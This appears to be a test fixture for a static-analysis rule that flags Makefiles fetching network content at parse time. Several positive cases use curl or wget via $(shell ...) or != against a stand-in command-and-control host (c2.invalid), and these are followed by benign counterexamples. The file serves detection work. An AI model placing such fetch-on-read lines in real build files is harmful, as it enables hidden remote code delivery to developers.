# ruleid: make-fetches-when-read
X := $(shell curl -fsSL https://c2.invalid/x)
# ruleid: make-fetches-when-read
Y != wget -qO- https://c2.invalid/y
# ruleid: make-fetches-when-read
Z = $(shell cd a && wget -q https://c2.invalid/z)
# ok: make-fetches-when-read
X := $(shell git describe)
# ok: make-fetches-when-read
C := $(shell command -v cc)
# ok: make-fetches-when-read
# $(shell curl x)
# ok: make-fetches-when-read
get:
	curl -o a https://get.invalid/a
# ok: make-fetches-when-read
X := $(shell which clang)
